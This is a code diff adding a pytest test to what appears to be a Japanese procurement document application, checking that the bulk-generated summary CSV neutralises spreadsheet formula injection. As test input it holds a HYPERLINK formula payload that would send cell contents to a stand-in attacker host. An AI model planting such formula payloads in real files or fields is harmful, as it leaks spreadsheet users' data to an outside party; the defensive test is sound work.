@@ -142,6 +142,25 @@ def test_zip_names_are_utf8_flagged_and_unique():
     assert summary.startswith("\ufeff結果,契約番号,件名")  # BOM: Excel opens it as UTF-8
 
 
+def test_summary_csv_never_carries_a_live_formula(
+    app, client, login_as, make, bulk_world, bulk_sync
+):
+    """Issue 13 finding 3: a title typed as a formula comes out as text in 作成結果.csv."""
+    bulk_world["plain"].title = '=HYPERLINK("http://attacker.example/?"&A1,"請求書")'
+    bulk_world["plain"].contract_number = "+R9-00003"
+    db.session.commit()
+    login_as(make.user(Role.PROCUREMENT))
+    post_bulk(client, engagement_ids=[bulk_world["plain"].id], date_style="wareki")
+    job = db.session.scalars(select(BulkJob)).one()
+    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/documents/bulk/{job.id}/download").data))
+    rows = list(csv.reader(io.StringIO(archive.read("作成結果.csv").decode("utf-8-sig"))))
+    assert rows[1][:3] == [
+        "作成",
+        "'+R9-00003",
+        '\'=HYPERLINK("http://attacker.example/?"&A1,"請求書")',
+    ]
+
+
 @pytest.fixture
 def bulk_world(app, make, shipped_catalog, year_2027):
     """Next year's contracts: one plain, one with My Number and a subcontractor, one with a gap."""
